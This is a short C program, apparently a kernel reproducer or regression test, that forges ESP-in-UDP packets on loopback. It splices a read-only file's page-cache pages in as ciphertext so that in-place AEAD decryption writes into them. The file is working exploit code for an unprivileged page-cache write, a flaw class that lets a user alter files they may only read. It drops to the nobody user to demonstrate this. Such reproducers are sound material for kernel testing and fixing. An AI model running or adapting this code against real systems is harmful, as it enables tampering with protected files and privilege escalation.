// SPDX-License-Identifier: GPL-2.0 OR MIT
/*
 * spliced FILE SPI - forge packets of ESP in UDP, whose ciphertext is the page cache of a file
 *
 * Sends 10 packets with that SPI from the loopback address to itself, with a wrong tag, as a user
 * who may read the file and not write it. Some kernels decrypt in pages that a sender shares, so
 * the AEAD gets the file's pages to write to. Returns when the packets have come to their end. Exit
 * status: 0, or 1 after one line that says why.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <fcntl.h>
#include <linux/udp.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <unistd.h>

#define PACKETS		10
/* The pages of a packet, which the loopback device does not cut */
#define PAGES		8
#define PAGE_SIZE	4096
#define TAG_SIZE	16
#define PORT		4500
#define NOBODY		65534

static void must(int ok, const char *what)
{
	if (ok)
		return;
	perror(what);
	exit(1);
}

static void forge(int sender, int file, const int pipe[2], uint32_t spi, uint32_t number)
{
	/* The header of ESP, and the IV */
	const uint32_t head[4] = { htonl(spi), htonl(number) };
	const uint8_t tag[TAG_SIZE] = { 0 };
	loff_t at = 0;
	int i;

	must(send(sender, head, sizeof(head), MSG_MORE) == sizeof(head), "send");
	for (i = 0; i < PAGES; i++)
		must(splice(file, &at, pipe[1], NULL, PAGE_SIZE, 0) == PAGE_SIZE &&
		     splice(pipe[0], NULL, sender, NULL, PAGE_SIZE, SPLICE_F_MORE) == PAGE_SIZE,
		     "splice");
	must(send(sender, tag, sizeof(tag), 0) == sizeof(tag), "send");
}

int main(int argc, char **argv)
{
	const struct sockaddr_in port = {
		.sin_family = AF_INET,
		.sin_port = htons(PORT),
		.sin_addr.s_addr = htonl(INADDR_LOOPBACK),
	};
	const int encap = UDP_ENCAP_ESPINUDP;
	/* Marked as not of ESP, so the socket receives it */
	const uint32_t last[2] = { 0 };
	int taker = socket(AF_INET, SOCK_DGRAM, 0), sender = socket(AF_INET, SOCK_DGRAM, 0);
	uint32_t got[2];
	int file, fds[2], i;

	if (argc != 3) {
		fputs("usage: spliced FILE SPI\n", stderr);
		return 1;
	}
	must(!setgid(NOBODY) && !setuid(NOBODY) && open(argv[1], O_RDWR) < 0, "nobody");
	file = open(argv[1], O_RDONLY);
	must(file >= 0, argv[1]);
	must(!bind(taker, (const void *)&port, sizeof(port)), "bind");
	must(!setsockopt(taker, IPPROTO_UDP, UDP_ENCAP, &encap, sizeof(encap)), "UDP_ENCAP");
	must(!connect(sender, (const void *)&port, sizeof(port)) && !pipe(fds), "connect");
	for (i = 1; i <= PACKETS; i++)
		forge(sender, file, fds, atoi(argv[2]), i);
	must(send(sender, last, sizeof(last), 0) == sizeof(last), "send");
	must(recv(taker, got, sizeof(got), 0) == sizeof(got), "recv");
	return 0;
}
